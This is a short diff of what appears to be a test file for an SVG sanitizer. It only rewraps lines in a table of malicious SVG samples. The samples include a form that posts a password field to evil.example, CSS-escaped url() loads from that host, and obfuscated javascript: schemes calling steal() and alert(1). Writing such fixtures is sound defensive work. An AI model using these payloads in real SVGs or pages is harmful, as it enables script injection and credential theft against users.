@@ -68,7 +68,8 @@ MALICIOUS = {
     "animate": (svg(b'<rect width="1" height="1"><animate attributeName="fill" values="red;blue" dur="1s"/></rect>'),
                 "<animate> element"),
     "an XHTML form": (svg(b'<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input '
-                          b'name="password"/></form>'), "<form> element from the namespace http://www.w3.org/1999/xhtml"),
+                          b'name="password"/></form>'),
+                      "<form> element from the namespace http://www.w3.org/1999/xhtml"),
     "a CSS-escaped url( in a style sheet": (svg(b'<style>.a{fill:\\75 rl(https://evil.example/x.svg#p)}</style>'),
                                             "loads 'https://evil.example/x.svg#p' through url() in a <style> element"),
     # scripts, events, links and embedded documents
@@ -106,7 +107,8 @@ MALICIOUS = {
                                           "loads 'javascript:steal()' through url() in the style attribute of <rect>"),
     "quoted url( with an escaped scheme": (svg(b'<rect style="fill:url(\'java\\73 cript:alert(1)\')"/>'),
                                            "loads 'javascript:alert(1)'"),
-    "URL( in capitals, escaped": (svg(b'<style>rect{fill:\\55RL(//evil.example/p)}</style>'), "loads '//evil.example/p'"),
+    "URL( in capitals, escaped": (svg(b'<style>rect{fill:\\55RL(//evil.example/p)}</style>'),
+                                  "loads '//evil.example/p'"),
     "data: in a style sheet": (svg(b'<style>rect{fill:url(data:image/svg+xml;base64,PHN2Zz4=)}</style>'),
                                "loads 'data:image/svg+xml"),
     "a presentation attribute": (svg(b'<rect fill="url(https://evil.example/p.svg#g)"/>'),
